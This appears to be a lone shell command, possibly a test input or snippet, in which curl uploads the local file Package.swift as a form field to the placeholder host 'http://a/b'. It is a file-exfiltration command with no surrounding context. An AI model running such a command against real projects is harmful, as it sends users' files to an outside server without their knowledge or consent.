curl http://a/b -F 'a=<Package.swift'
